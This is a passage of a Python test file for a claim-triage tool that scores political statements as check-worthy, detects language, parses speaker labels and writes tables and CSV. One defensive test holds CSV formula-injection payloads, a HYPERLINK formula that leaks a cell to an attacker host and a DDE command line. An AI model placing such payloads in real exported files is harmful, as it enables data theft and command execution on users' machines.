    assert groups[-1] == groups[-2]
    assert max(sizes) <= 1024  # was 1,999: every earlier line


def test_below_the_bound_a_line_has_datasketchs_candidates_in_its_order():
    """The band index gives what datasketch's MinHashLSH query gives, in the same order (the
    order in which a line meets its candidates decides which group it joins first)."""
    import random

    from datasketch import MinHash, MinHashLSH

    from veracity.claims.triage import _NUM_PERM, DUPLICATE_JACCARD, _BandIndex

    rng = random.Random(3)
    words = [f"w{k}" for k in range(40)]
    sets = [{w.encode() for w in rng.sample(words, 12)} for _ in range(400)]
    hashes = list(MinHash.generator(sets, num_perm=_NUM_PERM, seed=1))
    ours, theirs = _BandIndex(DUPLICATE_JACCARD), MinHashLSH(DUPLICATE_JACCARD, _NUM_PERM)
    found = 0
    for i, minhash in enumerate(hashes):
        expected = theirs.query(minhash)
        assert ours.query(minhash.hashvalues) == expected
        found += len(expected)
        ours.insert(i, minhash.hashvalues)
        theirs.insert(i, minhash)
    assert found > 400  # the lines share candidates: the order is compared


def test_each_distinct_sentence_is_scored_once_on_one_blas_thread(monkeypatch):
    """Audit: a 1 MB transcript took 270 CPU seconds, half of it in OpenBLAS threads waiting
    on the token heads' small matrix products (one thread gives the same bits), and every
    repeat of a sentence was scored again."""
    from threadpoolctl import threadpool_info

    import veracity.claims.model as model_module

    model = model_module.load_checkworthiness_scorer()
    seen: list[str] = []
    blas_threads: list[int] = []

    class Counting:
        def predict_proba(self, texts):
            seen.extend(texts)
            blas_threads.extend(
                i["num_threads"] for i in threadpool_info() if i["user_api"] == "blas"
            )
            return model.predict_proba(texts)

    monkeypatch.setattr(model_module, "load_checkworthiness_scorer", lambda: Counting())
    triage = triage_text(DEBATE + "HOLT: Thank you.\n" * 50 + "TRUMP: I did not.\n" * 20)
    assert len(seen) == len(set(seen)) == len({row.text for row in triage.rows})
    assert blas_threads and set(blas_threads) == {1}
    unrepeated = {row.text: row.score for row in triage_text(DEBATE).rows}
    assert all(unrepeated[row.text] == row.score for row in triage.rows if row.text in unrepeated)


@pytest.mark.data
def test_matching_embeds_check_worthy_sentences_from_their_scoring_pass(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, graph_rows: list[tuple[int, ...]]
):
    """Fact-check matching read MiniLM again for every check-worthy sentence (a fifth of a
    transcript's graph rows); it now embeds them from the states their scoring computed."""
    from veracity.embeddings.memo import sharing_token_states
    from veracity.pipeline import triage_statements

    triage_statements(DEBATE)  # models and the fact-check store loaded, outside the counts
    settings = get_settings()
    monkeypatch.setattr(settings, "cache_dir", tmp_path / "shared")  # empty embedding cache
    graph_rows.clear()
    shared = triage_statements(DEBATE)
    shared_rows = list(graph_rows)
    monkeypatch.setattr(settings, "cache_dir", tmp_path / "not-shared")
    graph_rows.clear()
    with sharing_token_states(max_bytes=0):  # triage shares through a memo keeping nothing
        alone = triage_statements(DEBATE)
    assert shared == alone
    assert not any("skipped" in note for note in shared.notes)
    assert len(shared_rows) == len(set(shared_rows))  # no text through the graph twice
    worthy = {row.text for row in shared.rows if row.check_worthy}
    assert len(graph_rows) - len(set(graph_rows)) == len(worthy) > 0
    assert set(shared_rows) == set(graph_rows)


def test_scoring_in_chunks_gives_the_same_rows_and_one_note_without_a_store(
    no_reference_data: Path, monkeypatch: pytest.MonkeyPatch
):
    """Matching runs once per scored chunk: the rows are those of one chunk, and a missing
    fact-check store is said once, not once per chunk."""
    import veracity.claims.triage as triage_module
    from veracity.pipeline import triage_statements

    whole = triage_statements(DEBATE)
    monkeypatch.setattr(triage_module, "SCORING_CHUNK", 3)
    chunked = triage_statements(DEBATE)
    assert chunked == whole
    assert sum("matching was skipped" in note for note in chunked.notes) == 1


@pytest.fixture(scope="module")
def debate_triage():
    return triage_text(DEBATE)


def test_triage_ranks_factual_claims_above_pleasantries(debate_triage):
    triage = debate_triage
    scores = [row.score for row in triage.rows]
    assert scores == sorted(scores, reverse=True)
    assert [row.rank for row in triage.rows] == list(range(1, len(triage.rows) + 1))
    rank = {row.text: row.rank for row in triage.rows}
    assert rank["Thousands of jobs leaving Michigan, leaving Ohio."] < rank["I did not."]
    assert (
        rank["Ford is leaving."]
        < rank["Well, thank you, Lester, and thanks to Hofstra for hosting us."]
    )
    threshold = checkworthiness_threshold()
    assert triage.threshold == threshold
    assert all(row.score is not None for row in triage.rows)
    assert all(row.check_worthy == (row.score >= threshold) for row in triage.rows)
    hoax = [row for row in triage.rows if "hoax" in row.text]
    assert len(hoax) == 2 and hoax[0].group == hoax[1].group
    assert all(row.speaker == "CLINTON" for row in hoax)


def test_triage_by_line_keeps_input_order():
    lines = [
        "Thank you very much.",
        "The unemployment rate for African Americans is 58 percent.",
        "",
        "I think we should all be proud.",
    ]
    triage = triage_text("\n".join(lines), by_line=True)
    assert [row.text for row in triage.rows] == lines
    assert [row.line for row in triage.rows] == [1, 2, 3, 4]
    # A blank line keeps its row but gets no score (it was 0.0, a number the model never gave).
    assert triage.rows[2].score is None and not triage.rows[2].check_worthy
    assert triage.rows[2].rank == 4  # unscored rows rank last
    assert triage.rows[1].rank == 1 and triage.rows[1].check_worthy
    # and a note says so, as the schema and README promise (probe5: there was none)
    assert triage.notes == [
        "Not scored (score null): line(s) 3 blank, kept so that rows and input lines stay aligned."
    ]


def test_many_blank_lines_are_listed_ten_then_counted():
    lines = ["The unemployment rate for African Americans is 58 percent."] + [""] * 12 + ["End."]
    triage = triage_text("\n".join(lines), by_line=True)
    assert triage.notes == [
        "Not scored (score null): line(s) 2, 3, 4, 5, 6, 7, 8, 9, 10, 11 and 2 more blank, kept "
        "so that rows and input lines stay aligned."
    ]


def test_a_line_too_long_to_be_one_claim_keeps_its_row_without_a_score():
    """Audit: a 5 MB line of words without a sentence end was scored check-worthy (0.82) with
    no note; it is no claim the model can judge."""
    rambling = " ".join(["the minister said the forces would stay in the region"] * 300)
    lines = [
        "The unemployment rate for African Americans is 58 percent.",
        rambling,
        "Thank you very much.",
    ]
    triage = triage_text("\n".join(lines), by_line=True)
    assert [row.line for row in triage.rows] == [1, 2, 3]
    long_row = triage.rows[1]
    assert long_row.text == rambling and long_row.score is None and not long_row.check_worthy
    assert long_row.rank == 3
    assert [row.rank for row in (triage.rows[0], triage.rows[2])] == [1, 2]
    assert len(triage.notes) == 1 and "line(s) 2 " in triage.notes[0]
    assert "2,000 characters" in triage.notes[0]
    # Without --lines the same text is one sentence with no end: the same answer.
    free = triage_text(rambling)
    assert [row.score for row in free.rows] == [None] and free.notes
    csv_text = triage_csv(triage)
    assert csv_text.splitlines()[2].split(",")[3] == ""  # the score cell of line 2 is blank


def test_text_that_is_not_english_keeps_its_rows_without_scores():
    """The model learned from English statements: a French transcript was scored as if it were
    English (analyze gave a French article a 0.68 claim). Now every row is kept, unscored, with
    a note naming the language."""
    french = (
        "DUPONT: Le chômage a atteint 9 % au dernier trimestre, le niveau le plus élevé depuis "
        "cinq ans.\nMARTIN: C'est faux, le chômage a baissé de deux points cette année.\n"
        "DUPONT: Le gouvernement a versé 20 milliards d'euros aux entreprises."
    )
    triage = triage_text(french)
    assert len(triage.rows) == 3
    assert all(row.score is None and not row.check_worthy for row in triage.rows)
    assert [row.speaker for row in triage.rows] == ["DUPONT", "MARTIN", "DUPONT"]
    assert len(triage.notes) == 1 and "French ('fr'), not English" in triage.notes[0]
    english = triage_text("SMITH: Unemployment reached 9 percent last quarter, a five-year high.")
    assert english.rows[0].score is not None and not english.notes
    # too short for the guess to decide: py3langid reads this English claim as French, and
    # nothing in it says French; it is scored, and a note says why
    short = triage_text("Vaccines cause autism.")
    assert short.rows[0].score is not None
    assert len(short.notes) == 1 and short.notes[0].startswith("Read as English")
    assert "('fr')" in short.notes[0]


# A short statement plainly in another language was scored as English: under 200 characters
# the language guess never counted (probe). Now its script or its function words decide.
@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("Le gouvernement a versé 20 milliards d'euros aux entreprises.", "'fr'"),
        ("Das Lied ist zudem auf dem Soundtrack zum Film enthalten.", "'de'"),
        ("Введите сумму пари и нажмите кнопку «Сделать ставку».", "'ru'"),
        ("部分领域三星确实走在了前面", "another script"),  # too short to guess at all
    ],
)
def test_a_short_text_plainly_in_another_language_is_not_scored(text, named):
    triage = triage_text(text)
    assert [row.score for row in triage.rows] == [None] * len(triage.rows)
    assert len(triage.notes) == 1 and "not English" in triage.notes[0]
    assert named in triage.notes[0]


def test_a_sentence_in_another_language_among_english_ones_is_not_scored():
    """The language was guessed on the whole text only: a French statement in a list of English
    ones crossed the cut through the batch model (0.497 -> 0.71, check-worthy). Now it keeps
    its row, unscored, and a note names its line and language; the English rows are scored."""
    lines = [
        "The unemployment rate fell to 3.5 percent in 2019.",
        "Le gouvernement a augmenté les impôts en 2023.",
        "We will build a wall on the southern border.",
        "Das Lied ist zudem auf dem Soundtrack zum Film enthalten.",
    ]
    triage = triage_text("\n".join(lines), by_line=True)
    assert [row.score is None for row in triage.rows] == [False, True, False, True]
    assert not triage.rows[1].check_worthy and triage.rows[0].check_worthy
    assert [row.rank for row in triage.rows[1::2]] == [3, 4]  # after every scored row
    assert len(triage.notes) == 2
    assert "line(s) 2 read as French ('fr'), not English" in triage.notes[0]
    assert "line(s) 4 read as German ('de'), not English" in triage.notes[1]
    # a transcript's sentence, without --lines: its line is named the same way
    said = triage_text(
        "SMITH: Unemployment reached 9 percent last quarter, a five-year high. The state paid "
        "20 billion dollars to companies that moved their plants abroad.\n"
        "DUPONT: Le gouvernement a versé 20 milliards d'euros aux entreprises.\n"
        "SMITH: That is not what the figures of the Labor Department show for the last year."
    )
    assert [row.score is None for row in sorted(said.rows, key=lambda row: row.line)] == [
        False,
        False,
        True,
        False,
    ]
    assert len(said.notes) == 1 and "line(s) 2 read as French" in said.notes[0]


def test_blank_input_is_refused():
    with pytest.raises(InputError, match="no text"):
        triage_text("\n  \n", by_line=True)
    # a transcript of stage directions only says why it has nothing to score
    with pytest.raises(
        InputError, match=r"no text to score: all it has is furniture, left out \(2 stage"
    ):
        triage_text("SMITH: [APPLAUSE]\nJONES: (CROSSTALK)\n")


def test_table_shows_ranked_sentences_and_csv_has_every_row(debate_triage):
    console = Console(record=True, width=200)
    print_triage_table(debate_triage, console)
    shown = console.export_text()
    assert "Thousands of jobs leaving Michigan" in shown and "CLINTON" in shown
    rows = list(csv.DictReader(io.StringIO(triage_csv(debate_triage))))
    assert [r["text"] for r in rows] == [row.text for row in debate_triage.rows]


def test_table_says_what_a_fact_checks_figure_is():
    """Probe s37: the fact-check column ended '(PolitiFact via LIAR, statement 3336, 0.86)', a
    bare figure beside a rating; the web page writes 'semantic match 0.86'."""
    row = TriageRow(
        rank=1,
        line=1,
        text="Barack Obama was born in Kenya.",
        score=0.9,
        check_worthy=True,
        group=1,
        fact_checks=[
            FactCheckRef(
                statement="Says Barack Obama grew up in Kenya.",
                rating="false",
                fact_checker="PolitiFact via LIAR, statement 3336",
                similarity=0.8612,
                match_type="semantic",
            )
        ],
    )
    triage = Triage(model="claims", threshold=0.5, by_line=True, rows=[row])
    console = Console(record=True, width=300)
    print_triage_table(triage, console)
    table = console.export_text()
    assert "(PolitiFact via LIAR, statement 3336, semantic match, similarity 0.86)" in table


def test_table_leaves_out_the_columns_no_row_fills():
    """Probe s38: in 80 columns, a transcript's sentences were cut to 18 characters a line
    beside an empty fact-checks column, and an article's beside an empty speaker column too."""
    sentence = "Our state has the lowest tax rate in the region, and crime fell 12 percent."
    rows = [
        TriageRow(
            rank=1, line=1, text=sentence, score=0.99, check_worthy=True, speaker="JONES", group=1
        )
    ]
    console = Console(record=True, width=80)
    print_triage_table(Triage(model="claims", threshold=0.5, by_line=False, rows=rows), console)
    table = console.export_text()
    assert "fact-checks" not in table and "speaker" in table
    assert "Our state has the lowest tax rate" in table  # one line of the cell (18 before)
    assert "No row matches a known fact-check" in table
    article = [rows[0].model_copy(update={"speaker": None})]
    console = Console(record=True, width=80)
    print_triage_table(Triage(model="claims", threshold=0.5, by_line=False, rows=article), console)
    assert "speaker" not in console.export_text()


def test_the_line_under_a_table_without_matches_says_which_rows_were_looked_up():
    """Probe s43: under a debate whose "Obama was born in Kenya." scored 0.18, so that no
    fact-check was looked up for it (`veracity verify` finds PolitiFact's false ratings), the
    table said "No row matches a known fact-check"; so it did with no store built, and with
    --no-fact-checks."""
    from veracity.claims.triage import WORTHY_ONLY_LOOKED_UP
    from veracity.verify.factchecks import MATCHING_SKIPPED

    rows = [
        TriageRow(
            rank=1,
            line=1,
            text="Unemployment fell to 3.5 percent.",
            score=0.99,
            check_worthy=True,
            group=1,
        ),
        TriageRow(
            rank=2, line=2, text="Obama was born in Kenya.", score=0.18, check_worthy=False, group=2
        ),
    ]

    def last_line(notes: list[str], *, looked_up: bool = True) -> str:
        console = Console(record=True, width=300)
        triage = Triage(model="claims", threshold=0.5, by_line=False, rows=rows, notes=notes)
        print_triage_table(triage, console, looked_up=looked_up)
        return console.export_text().rstrip().splitlines()[-1]

    worthy_only = last_line([f"{WORTHY_ONLY_LOOKED_UP} (score >= 0.50); the other 1 ..."])
    assert worthy_only.startswith("None of the 1 check-worthy row(s) matches a known fact-check")
    assert "the others were not looked up" in worthy_only
    assert last_line([f"{MATCHING_SKIPPED}: no store"]).startswith("No row was looked up")
    assert last_line([]) == "No row matches a known fact-check."
    assert last_line([], looked_up=False).startswith("└")


def test_the_line_under_a_cut_table_speaks_of_the_rows_shown():
    """Probe s47: `veracity claims debate.txt --top 3` said "None of the 3 check-worthy row(s)
    matches a known fact-check; the others were not looked up" of a debate with 9 check-worthy
    rows, all 9 looked up: the 6 left out were among "the others"."""
    from veracity.claims.triage import WORTHY_ONLY_LOOKED_UP, top_rows

    rows = [
        TriageRow(rank=rank, line=rank, text=text, score=score, check_worthy=True, group=rank)
        for rank, (text, score) in enumerate(
            [("Unemployment fell to 3.1 percent.", 0.99), ("Crime went up 40%.", 0.98)], 1
        )
    ]
    rows.append(
        TriageRow(rank=3, line=3, text="That's a lie.", score=0.2, check_worthy=False, group=3)
    )
    looked_up = f"{WORTHY_ONLY_LOOKED_UP} (score >= 0.50); the other 1 scored row(s) ..."
    triage = Triage(model="claims", threshold=0.5, by_line=False, rows=rows, notes=[looked_up])
    console = Console(record=True, width=300)
    print_triage_table(top_rows(triage, 1), console)
    line = console.export_text().rstrip().splitlines()[-1]
    assert line.startswith("None of the 1 check-worthy row(s) shown matches a known fact-check")
    assert "the others were not looked up" not in line
    assert "rows that are not check-worthy were not looked up" in line


def test_a_narrow_table_lists_the_fact_checks_under_it():
    """Probe s41: a debate's table in 80 columns, with speakers and matched fact-checks, cut
    each sentence to 12 characters a line ("Raising the / minimum wage / to $10.10 an") beside
    a fact-checks column as narrow. Below 120 columns the fact-checks are listed under the
    table, each after its row's rank (23 characters a line in that debate's 80 columns)."""
    sentence = (
        "Raising the minimum wage to $10.10 an hour would lift over a million Americans out "
        "of poverty."
    )
    check = FactCheckRef(
        statement="Raising the minimum wage to $10.10 an hour, would help lift over a million "
        "Americans out of poverty.",
        rating="mostly-true",
        fact_checker="PolitiFact via LIAR, statement 10072",
        similarity=0.97,
        match_type="lexical",
    )
    rows = [
        TriageRow(
            rank=1,
            line=7,
            text=sentence,
            score=0.94,
            check_worthy=True,
            speaker="Governor Mark Ruiz",
            group=1,
            fact_checks=[check],
        ),
        TriageRow(rank=2, line=3, text="Thank you.", score=0.01, check_worthy=False, group=2),
    ]
    triage = Triage(model="claims", threshold=0.5, by_line=False, rows=rows)
    console = Console(record=True, width=80)
    print_triage_table(triage, console)
    shown = console.export_text()
    assert all(len(line) <= 80 for line in shown.splitlines())
    assert "Raising the minimum wage to $10.10" in shown  # one line of its cell
    listed = " ".join(shown.split())
    assert (
        "#1 [mostly-true] Raising the minimum wage to $10.10 an hour, would help lift over a "
        "million Americans out of poverty. (PolitiFact via LIAR, statement 10072, lexical "
        "match, similarity 0.97)"
    ) in listed
    wide = Console(record=True, width=200)
    print_triage_table(triage, wide)
    assert "#1 [mostly-true]" not in wide.export_text()  # a column of its own, as before


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_kept_as_text():
    """Hostile round 3: `veracity claims --format csv` wrote statements such as
    =HYPERLINK(...) as they were, so a spreadsheet opening the file ran them as formulas."""
    lines = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Read the fact-check")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1) The council spent 40 percent more on water in 2023.",
        "-2+3 is what the minister wrote in the budget on Monday.",
        "The council spent 40 percent more on water in 2023.",
    ]
    triage = triage_text("\n".join(lines), by_line=True)
    rows = list(csv.DictReader(io.StringIO(triage_csv(triage))))
    by_line = {int(row["line"]): row["text"] for row in rows}
    assert [by_line[n] for n in range(1, 6)] == ["'" + line for line in lines[:4]] + [lines[4]]


def test_table_shows_bracketed_transcript_text_verbatim():
    """Audit: the table read cells as Rich markup, so "[applause]" vanished from sentences
    and a fact-checker's "[pants-fire]" rating from the fact-check column."""
    triage = triage_text(
        "TRUMP: [Our] plants were lost [70,000 of them] to China.\n"
        "HOLT: [bold red]Thank you[/bold red].\n",
        by_line=True,
    )
    console = Console(record=True, width=300)
    print_triage_table(triage, console)
    table = console.export_text()
    assert "[Our] plants were lost [70,000 of them] to China." in table
    assert "[bold red]Thank you[/bold red]." in table


# A hearing transcript as news sites print it: titled labels with the member's party and state
# after a comma, or a title joined by "of". Before, none of these was a label, so the
# transcript read as an article: no line had a speaker (the moderator's neither), and
# "Rep. Ilhan Omar, D-Minn.: We ..." was one sentence, label and all.
HEARING = """\
Transcript: House Judiciary Committee hearing, 9 December 2019
CHAIRMAN: The committee will come to order.
Rep. Ilhan Omar, D-Minn.: We cut taxes by 10 percent. That created 2 million jobs.
CHAIRMAN: The gentleman from Texas is recognised.
Sen. Ted Cruz, R-Texas: The deficit rose by $200 billion last year.
Congressman John Lewis of Georgia: We marched so that everyone could vote.
Rep. Jerrold Nadler, D-New York: The president abused his power.
Secretary of State Antony Blinken: We have sent $2 billion in aid.
"""


def test_titled_labels_with_party_and_state_name_the_speaker():
    assert [(s.text, s.speaker) for s in split_statements(HEARING)] == [
        ("The committee will come to order.", "CHAIRMAN"),
        ("We cut taxes by 10 percent.", "Rep. Ilhan Omar"),
        ("That created 2 million jobs.", "Rep. Ilhan Omar"),
        ("The gentleman from Texas is recognised.", "CHAIRMAN"),
        ("The deficit rose by $200 billion last year.", "Sen. Ted Cruz"),
        ("We marched so that everyone could vote.", "Congressman John Lewis of Georgia"),
        ("The president abused his power.", "Rep. Jerrold Nadler"),
        ("We have sent $2 billion in aid.", "Secretary of State Antony Blinken"),
    ]


# An office after a title's "of" names a body, not the speaker: before, "Speaker of the House
# Nancy Pelosi" counted four name words ("the House Nancy Pelosi") and was read as a headline,
# so her words went to no one. A headline with "of" but no title stays no speaker's.
def test_an_office_after_a_titles_of_is_no_part_of_the_name():
    lines = split_statements(
        "Speaker of the House Nancy Pelosi: We passed the bill.\n"
        "Director of National Intelligence Avril Haines: We have no evidence of that.\n"
        "Chairman of the Joint Chiefs Mark Milley: The troops left in August.\n"
        "Bank of America Stock Falls: What It Means for You\n",
        by_line=True,
    )
    assert [(s.text, s.speaker) for s in lines] == [
        ("We passed the bill.", "Speaker of the House Nancy Pelosi"),
        ("We have no evidence of that.", "Director of National Intelligence Avril Haines"),
        ("The troops left in August.", "Chairman of the Joint Chiefs Mark Milley"),
        ("Bank of America Stock Falls: What It Means for You", None),
    ]


# A document's own labels ("Transcript:", "Source:", "Date:") name no speaker. Before, the
# first line was a turn of a speaker "Transcript" and "Source: CNN" one of "Source".
def test_a_documents_labels_are_no_speakers():
    text = (
        "Source: CNN\nTRUMP: We will build the wall.\nCLINTON: That is not true.\n"
        "TRUMP: Mexico will pay for it.\n"
    )
    assert [(s.text, s.speaker) for s in split_statements(text)] == [
        ("We will build the wall.", "TRUMP"),
        ("That is not true.", "CLINTON"),
        ("Mexico will pay for it.", "TRUMP"),
    ]
    by_line = split_statements(
        "Transcript: the first debate\nRush Transcript:\nCNN Transcript: State of the Union",
        by_line=True,
    )
    assert [(s.text, s.speaker) for s in by_line] == [
        ("Transcript: the first debate", None),
        ("Rush Transcript:", None),
        ("CNN Transcript: State of the Union", None),
    ]


# A news kicker or a link's label names no speaker either (probe5: "BREAKING: Unemployment rose
# to 9 percent." with --lines was said by "BREAKING"). In three news corpora (BuzzFeed-Webis,
# FakeNewsNet, ReCOVery) 2,244 of 19,593 lines with a speaker label had one of these ('RELATED
# VIDEO', 'MORE', 'WINNER', 'ALSO READ', 'NEXT', 'PHOTOS', 'BREAKING', 'LINK', 'EXCLUSIVE', ...);
# no other label changed.
def test_a_kicker_or_a_links_label_is_no_speaker():
    lines = split_statements(
        "BREAKING: Unemployment rose to 9 percent.\n"
        "Just in: The Senate passed the bill 52-48.\n"
        "RELATED VIDEO: Senate debates the bill\n"
        "EXCLUSIVE: The mayor spent $2 million on flights.\n"
        "First on CNN: The FBI opened 12 new cases.\n"
        "SANDERS: We will raise the minimum wage to $15.\n",
        by_line=True,
    )
    assert [s.speaker for s in lines] == [None, None, None, None, None, "SANDERS"]
    assert lines[0].text == "BREAKING: Unemployment rose to 9 percent."


# A Title Case headline before a colon is no speaker's label: before, "Senate Passes Sweeping
# Climate Bill" was the speaker of "What It Means for You", and the headline's own claim was
# not scored. Names with titles, initials and suffixes stay labels.
def test_a_title_case_headline_is_no_speaker():
    lines = split_statements(
        "Senate Passes Sweeping Climate Bill: What It Means for You\n"
        "Betty White Turns 95: See Her Best Moments\n"
        "Former Vice President Joe Biden: We will rejoin the Paris accord.\n"
        "Sen. Robert F. Kennedy Jr.: Vaccines were never tested.\n"
        "MODERATOR (Lester Holt): Thank you.\n",
        by_line=True,
    )
    assert [(s.text, s.speaker) for s in lines] == [
        ("Senate Passes Sweeping Climate Bill: What It Means for You", None),
        ("Betty White Turns 95: See Her Best Moments", None),
        ("We will rejoin the Paris accord.", "Former Vice President Joe Biden"),
        ("Vaccines were never tested.", "Sen. Robert F. Kennedy Jr."),
        ("Thank you.", "MODERATOR (Lester Holt)"),
    ]


@pytest.mark.parametrize("unit", ["A", "AB3D"])
def test_a_line_of_capitals_is_read_in_linear_time(unit: str) -> None:
    """Hostile round 5: a speaker label's words were joined by an optional space, so a line
    opening with a long run of capitals and no colon ("AAAA...", a pasted hash or code) could be
    cut into five words in every way: 80 capitals took each label pattern 2.5 s, 200 several
    minutes, in `veracity claims` and `POST /v1/claims:triage` (a thread the timeout abandons
    keeps burning). Here 100 characters, which took about 20 s."""
    import time

    from veracity.pipeline import triage_statements

    line = (unit * 100)[:100]
    start = time.process_time()
    result = triage_statements(f"{line}\nThe council cut the budget by 5 percent.", by_line=True)
    assert time.process_time() - start < 3.0
    assert [row.speaker for row in result.rows] == [None, None]


def test_speaker_patterns_match_as_before_their_words_were_read_whole() -> None:
    """Reading each word of a label whole changes what the patterns match nowhere: the same
    matches and groups as the former patterns on 20,000 random lines of label-like tokens."""
    import random
    import re

    from veracity.claims import triage

    names = (
        "_SPEAKER",
        "_SPEAKER_ALONE",
        "_SPEAKER_ALONE_CLOCK_FIRST",
        "_SPEAKER_ALONE_WITH_ROLE",
        "_SPEAKER_ALONE_UNMARKED",
    )
    patterns = [getattr(triage, name) for name in names]
    former = [re.compile(p.pattern.replace("*+", "*"), p.flags) for p in patterns]
    assert all(f.pattern != p.pattern for f, p in zip(former, patterns, strict=True))
    tokens = ["A", "Ab", "AB", "Mc", "O'", "Dr.", "1", "12", "123", "of", "for", "the", "Jr."]
    tokens += ["(x)", "(00:01)", "[00:01:02]", "0:03", ":", ": ", ",", ", ", "HOST", "D-Minn."]
    tokens += [" ", " ", "  ", "-", "a", "words here"]
    rng = random.Random(38)
    for _ in range(20_000):
        line = "".join(rng.choice(tokens) for _ in range(rng.randint(1, 9)))
        for new, old in zip(patterns, former, strict=True):
            a, b = new.match(line), old.match(line)
            assert (a and (a.span(), a.groupdict())) == (b and (b.span(), b.groupdict())), line


# Probe s39: "That's a fact." scored 0.63 and was listed check-worthy (and looked up among
# fact-checks); it passes judgement on the sentence before and names nothing to check.
def test_a_judgement_on_what_was_said_is_not_check_worthy_whatever_its_score() -> None:
    transcript = (
        "SENATOR: Unemployment fell to 3.9 percent in March. That's a fact.\n"
        "GOVERNOR: Crime rose 20 percent in our cities last year.\n"
    )
    triage = triage_text(transcript)
    row = next(r for r in triage.rows if r.text == "That's a fact.")
    assert row.score is not None and row.score >= triage.threshold  # the model's score, kept
    assert not row.check_worthy
    assert any(
        "line(s) 1 only pass judgement on what was said before" in note for note in triage.notes
    )
    assert all(r.check_worthy for r in triage.rows if r.text != "That's a fact.")


# The Washington Post's transcript of the ABC Democratic debate (politifact11709, probe s42):
# a video's caption between the turns was credited to SANDERS, the speaker before it.
CAPTIONED = """\
MUIR: But Senator, you do mention the DNC -- the vender. But you said of your staff that they did the wrong thing.

SANDERS: Absolutely.

At ABC's Democratic presidential debate, candidate Bernie Sanders apologizes to rival Hillary Clinton for a scandal involving key voter data. (Video: ABC News)

MUIR: So, does Secretary Clinton deserve an apology tonight?

SANDERS: Yes, I apologize.

[Clinton turns to Sanders. The audience applauds.]

And I hope we can move on.
"""


def test_a_caption_or_an_editors_line_in_a_transcript_is_nobodys_words():
    said = {s.text: s.speaker for s in split_statements(CAPTIONED)}
    caption = (
        "At ABC's Democratic presidential debate, candidate Bernie Sanders apologizes to rival "
        "Hillary Clinton for a scandal involving key voter data."
    )
    assert said[caption] is None
    assert said["[Clinton turns to Sanders."] is None
    assert said["The audience applauds.]"] is None
    # the turn goes on around them
    assert said["Absolutely."] == "SANDERS"
    assert said["And I hope we can move on."] == "SANDERS"
    # a bare "(video)" is no credit, and an aside in round brackets is someone's words
    spoken = split_statements("SMITH: I saw the tape (video)\nSMITH: Good.\n(Imagine that!)\n")
    assert [s.speaker for s in spoken] == ["SMITH", "SMITH", "SMITH"]


# Probe s43: a platform's embed notices (GossipCop 1536255789) and a shop's price widget (PTC
# article773650987) came out of `veracity claims` as check-worthy claims (0.54, 0.79); they are
# page furniture, left out as `veracity analyze` leaves them out, and counted in its note.
ARTICLE_WITH_EMBEDS = """\
Kim Kardashian Trolling Her Own Bikini Pic on Instagram Is Everything

Kim Kardashian is back to posting photos of herself on Instagram, and giving no effs about it.

This content is imported from {embed-name}. You may be able to find the same content in \
another format, or you may be able to find more information, at their web site.

This content is created and maintained by a third party, and imported onto this page to help \
users provide their email addresses. You may be able to find more information about this and \
similar content at piano.io

The Tyranny of Good In... Paul Craig Roberts, La... Best Price: $5.64 Buy New $5.00 (as of \
10:35 EDT - Details)

President Trump has been set up as a treasonous enemy of America, the columnist wrote.
"""


def test_embed_notices_and_price_widgets_are_left_out_as_furniture():
    texts = [s.text for s in split_statements(ARTICLE_WITH_EMBEDS)]
    assert not any(
        "imported" in t or "third party" in t or "web site" in t or "Price" in t for t in texts
    )
    assert (
        "President Trump has been set up as a treasonous enemy of America, the columnist wrote."
        in texts
    )
    triage = triage_text(ARTICLE_WITH_EMBEDS)
    assert any(note.startswith("3 line(s) of site furniture left out") for note in triage.notes)


def test_lines_alike_but_for_a_count_in_the_thousands_are_two_claims() -> None:
    """Probe s43: the figure check read 1,800-2,099 written with a separator as years, so
    "2,000 more troops" and "1,500 more troops" were one claim (500 stayed apart)."""
    line = (
        "In 2019 the president ordered the Pentagon to send {} more troops to the Syrian border "
        "to guard the oil fields near Deir ez-Zor, officials said on Monday."
    )
    assert group_near_duplicates([line.format(n) for n in ("2,000", "1,500", "500")]) == [1, 2, 3]


# An interview quoted in an article whose interviewer has no label (GossipCop 8688894238, the
# Inquirer's Nolan and Thomas interview): each question read as the last answer's speaker's,
# after an ad slot too ("How has the dynamics ... evolved?" as C's).
UNLABELLED_INTERVIEWER = """\
Excerpts from our interview:

Why did you keep Matt Damon's casting a secret?

Chris Nolan (C): We didn't want to market the film using him. He is not in it very much.

Emma Thomas (E): It is so great watching Matt when you know what is really going on.

C: It is the lift that the movie needs at that point.

ADVERTISEMENT

How has the dynamics between the two of you evolved over the years?

E: We love working together. There is a lack of agenda.

C: Emma is always very objective.

Structurally you have a lot of talk in the twenty minutes before, a lot of negativity and a lot of bad things happening, and the film is very much going to a dark place at that point, so getting that lift with a great actor and a movie star coming on screen is a good thing, and the audience feels it, and we felt it in the edit too, does that make sense?

E: Girls are much more complicated.

What are the kids' ages?

E: They are 12, 11, 9 and 7.
"""


def test_an_unlabelled_interviewers_questions_are_nobodys_turn():
    by_text = {s.text: s.speaker for s in split_statements(UNLABELLED_INTERVIEWER)}
    for question in (
        "Why did you keep Matt Damon's casting a secret?",
        "How has the dynamics between the two of you evolved over the years?",
        "What are the kids' ages?",
    ):
        assert by_text[question] is None, question
    assert by_text["It is the lift that the movie needs at that point."] == "C"
    assert by_text["There is a lack of agenda."] == "E"
    # a long answer that ends in a question of its own stays its speaker's
    assert [s.speaker for s in split_statements(UNLABELLED_INTERVIEWER) if "edit" in s.text] == [
        "C"
    ]


def test_a_labelled_speakers_closing_question_stays_theirs():
    """Where nothing shows an unnamed interviewer (every question followed by another speaker's
    label, none before the first label), a turn that ends in a question is still its speaker's:
    the debate's moderator is labelled."""
    debate = (
        "TAPPER: Let's begin with jobs.\n\nKASICH: We created 400,000 jobs in Ohio.\n\n"
        "Why would anyone give that up?\n\nRUBIO: I support free trade deals.\n"
    )
    by_text = {s.text: s.speaker for s in split_statements(debate)}
    assert by_text["Why would anyone give that up?"] == "KASICH"


def test_a_correction_notice_is_not_check_worthy_and_is_named_in_a_note() -> None:
    """Probe s47 S6: FiveThirtyEight's appended correction scored 0.998 and was check-worthy;
    it is the outlet's account of its own error, not a claim to look up."""
    text = (
        "Trump's job approval stands at 43.6 percent, according to our average.\n"
        "CORRECTION (May 15, 2020, 10:01 a.m.): A previous version of this article reversed "
